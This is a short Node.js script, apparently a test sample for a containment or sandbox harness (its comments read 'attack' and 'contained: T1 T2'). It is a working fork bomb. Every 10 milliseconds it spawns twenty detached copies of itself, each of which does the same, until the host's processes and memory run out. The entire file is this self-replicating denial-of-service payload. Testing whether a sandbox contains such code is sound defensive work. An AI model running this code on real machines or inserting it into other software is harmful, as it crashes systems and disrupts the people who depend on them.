// attack: starts copies of itself without end
// contained: T1 T2
const { spawn } = require("child_process");
console.log("attacking");
setInterval(() => {
    for (let i = 0; i < 20; i++) {
        spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
    }
}, 10);
